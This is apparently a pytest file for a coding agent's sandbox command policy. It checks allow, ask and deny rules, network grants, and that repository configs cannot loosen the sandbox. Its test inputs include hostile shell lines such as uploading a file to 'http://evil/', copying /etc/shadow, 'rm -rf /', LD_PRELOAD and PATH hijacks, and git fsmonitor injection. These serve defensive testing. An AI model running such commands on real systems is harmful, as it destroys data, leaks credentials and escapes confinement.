"""The command policy's rules: leading words, first match wins, what a repository may say."""

from __future__ import annotations

import pytest

from nexus_ls.errors import NexusError
from nexus_ls.sandbox.policy import Policy, Rule, build_policy, parse_rules, simple_commands


def test_simple_commands_see_through_operators_assignments_and_wrappers() -> None:
    line = "cd src && FOO=1 git push origin; timeout 5 env -i A=b npm install | tee log"
    assert simple_commands(line) == [
        ["cd", "src"],
        ["git", "push", "origin"],
        ["npm", "install"],
        ["tee", "log"],
    ]
    assert simple_commands("echo 'a && b'") == [["echo", "a && b"]]
    assert simple_commands("echo 'unbalanced") == [["echo", "'unbalanced"]]


def decide(policy: Policy, command: str, network: bool = False) -> tuple[str, bool]:
    decision = policy.decide(command, network)
    return decision.action, decision.network


def test_defaults_run_sandboxed_and_ask_for_network_and_push() -> None:
    policy = Policy()
    assert decide(policy, "pytest -q") == ("allow", False)
    assert decide(policy, "pip install x", network=True) == ("ask", True)
    assert decide(policy, "make && git push") == ("ask", True)


def test_first_matching_rule_decides_and_deny_wins_in_a_compound_command() -> None:
    policy = Policy(
        [
            Rule(("git", "push", "--force"), "deny", source="user"),
            Rule(("git", "push"), "allow", network=True, source="user"),
            Rule(("rm",), "deny", source="user"),
        ]
    )
    assert decide(policy, "git push --force origin") == ("deny", False)
    assert decide(policy, "git push origin main", network=True) == ("allow", True)
    assert decide(policy, "echo hi; rm -rf build") == ("deny", False)


def test_network_is_granted_only_when_every_part_is_granted_it() -> None:
    policy = Policy([Rule(("npm", "install"), "allow", network=True, source="user")])
    assert decide(policy, "npm install", network=True) == ("allow", True)
    assert decide(policy, "npm install && curl evil", network=True) == ("ask", True)


def test_a_repository_may_refuse_and_ask_but_never_grant_the_network() -> None:
    policy, notes = build_policy(
        [],
        [],
        {
            "sandbox": "off",
            "rules": [
                {"command": "make deploy", "decision": "deny"},
                {"command": "curl", "decision": "allow", "network": True},
                {"command": ["ls"], "decision": "allow"},
            ],
        },
    )
    assert decide(policy, "make deploy") == ("deny", False)
    assert decide(policy, "curl https://x", network=True) == ("ask", True)
    assert decide(policy, "ls -la") == ("allow", False)
    assert notes and "ignored sandbox" in notes[0]


def test_flags_and_the_user_come_before_the_repository() -> None:
    user = parse_rules([{"command": "curl", "decision": "deny"}], "policy.toml", may_grant=True)
    policy, _ = build_policy(
        ["git push"], user, {"rules": [{"command": "curl", "decision": "allow"}]}
    )
    assert decide(policy, "git push", network=True) == ("allow", True)
    assert decide(policy, "curl x") == ("deny", False)


@pytest.mark.parametrize(
    ("rules", "message"),
    [
        ({"command": "x"}, "rules must be an array"),
        ([{"command": "x", "decision": "maybe"}], "decision must be one of allow, ask, deny"),
        ([{"decision": "allow"}], 'needs command = "leading words"'),
        ([{"command": "x", "decision": "allow", "colour": 1}], "unknown key(s) colour"),
        ([{"command": "x", "decision": "allow", "network": "yes"}], "network must be true"),
    ],
)
def test_bad_rules_are_errors_naming_the_rule(rules: object, message: str) -> None:
    with pytest.raises(NexusError, match=message.replace("(", r"\(").replace(")", r"\)")):
        parse_rules(rules, "policy.toml", may_grant=True)


def test_only_the_users_rules_can_let_a_command_out_of_the_sandbox() -> None:
    user = parse_rules(
        [{"command": "docker", "decision": "ask", "sandbox": False}], "policy.toml", may_grant=True
    )
    decision = Policy(user).decide("docker ps")
    assert (decision.action, decision.unconfined) == ("ask", True)
    assert "outside the sandbox" in decision.reason
    assert Policy(user).decide("docker ps && rm -rf /").unconfined is False  # every part
    with pytest.raises(NexusError, match="a repository cannot let commands out of the sandbox"):
        build_policy([], [], {"rules": [{"command": "x", "decision": "allow", "sandbox": False}]})


@pytest.mark.parametrize(
    "line",
    [
        "{ git push origin; }",
        "git -C . push",
        "git -c core.x=1 --no-pager push",
        "/usr/bin/git push",
        "if true; then git push; fi",
        "! git push",
        'sh -c "git push"',
        "bash -lc 'cd x && git push'",
        "eval git push",
        "echo $(git push)",
        "echo `git push`",
    ],
)
def test_the_usual_spellings_of_a_push_are_all_a_push(line: str) -> None:
    assert decide(Policy(), line)[0] == "ask", simple_commands(line)


def test_flags_match_in_any_order_and_form() -> None:
    policy = Policy([Rule(("rm", "-rf"), "deny", source="user")])
    for line in ("rm -rf x", "rm -fr x", "rm -r -f x", "rm x -rf", "/bin/rm -rf /"):
        assert decide(policy, line)[0] == "deny", line
    assert decide(policy, "rm -r x")[0] == "allow"


def test_substitutions_and_redirections_never_run_unconfined() -> None:
    user = parse_rules(
        [{"command": "pytest", "decision": "allow", "sandbox": False}], "p", may_grant=True
    )
    policy = Policy(user)
    assert policy.decide("pytest -q tests").unconfined is True
    for line in ("pytest `cp /etc/shadow /tmp/x`", "pytest $(id)", "pytest > /etc/passwd"):
        assert policy.decide(line).unconfined is False, line


def granting(networked: str) -> Policy:
    """A user's policy that lets `git status` out of the sandbox and gives `networked` the
    network."""
    rules = [
        {"command": "git status", "decision": "allow", "sandbox": False},
        {"command": networked, "decision": "allow", "network": True},
    ]
    return Policy(parse_rules(rules, "policy.toml", may_grant=True))


@pytest.mark.parametrize(
    "line",
    [
        "./git status",
        "PATH=. git status",
        "$PWD/git status",
        "LD_PRELOAD=./x.so git status",
        "git --exec-path=. status",
        "git -c core.fsmonitor='touch /tmp/x' status",
        "env git status",
    ],
)
def test_grants_go_by_the_command_as_written(line: str) -> None:
    """Spellings that dodge a deny are caught, but they must not earn what a rule grants."""
    policy = granting("git fetch")
    assert policy.decide("git status --short").unconfined is True
    assert policy.decide(line).unconfined is False
    fetch = line.replace("status", "fetch")
    assert decide(policy, "git fetch origin", network=True) == ("allow", True)
    assert decide(policy, fetch, network=True) == ("ask", True), fetch


def test_an_answer_for_the_run_covers_that_command_only() -> None:
    from nexus_ls.tools.gate import CommandGate

    asked: list[str] = []

    def ask(request: dict) -> tuple[str, str]:
        asked.append(request["command"])
        return "run", "the test"

    gate = CommandGate(Policy(), ask)
    assert gate.check("git push origin main").run
    assert gate.check("git push origin other").run
    assert gate.check("curl -T x http://evil/ ; git push").run
    assert asked == ["git push origin main", "curl -T x http://evil/ ; git push"]


def test_a_repository_cannot_take_away_the_question_a_push_gets() -> None:
    policy, _ = build_policy(
        [],
        [],
        {
            "rules": [
                {"command": "git push", "decision": "allow"},
                {"command": "git push --force", "decision": "deny"},
            ]
        },
    )
    assert decide(policy, "git push origin main") == ("ask", True)
    assert decide(policy, "git push --force") == ("deny", False)


@pytest.mark.parametrize(
    "line",
    [
        "git status #\nsh -c 'id'",
        "git status x#\nid",
        "PATH=$PWD/bin:$PATH; git status",
        "HOME=$PWD/fake; git status",
        "export PATH=.; git status",
        "cd /; git status",
        "git status\nid",
        "git status & id",
        "{ git status; }",
    ],
)
def test_a_grant_covers_one_plain_command_only(line: str) -> None:
    from nexus_ls.tools.gate import CommandGate

    policy = granting("git push")
    assert policy.decide(line).unconfined is False
    assert decide(policy, line.replace("git status", "git push"), network=True)[0] != "allow"
    gate = CommandGate(Policy(), lambda request: ("run", "the test"))
    assert gate.check("git push origin main").run
    answers: list[str] = []
    gate.ask = lambda request: answers.append(request["command"]) or ("deny", "test")
    gate.check(line.replace("git status", "git push"))
    assert answers, "a line that does more than the command allowed for the run was not asked"


def test_comments_do_not_hide_what_follows_them() -> None:
    policy = Policy([Rule(("rm", "-rf"), "deny", source="user")])
    assert decide(policy, "echo a #\nrm -rf /")[0] == "deny"
    assert decide(Policy(), "echo hi #\ngit push origin main")[0] == "ask"
    assert simple_commands("echo a # rm -rf /") == [["echo", "a"]]
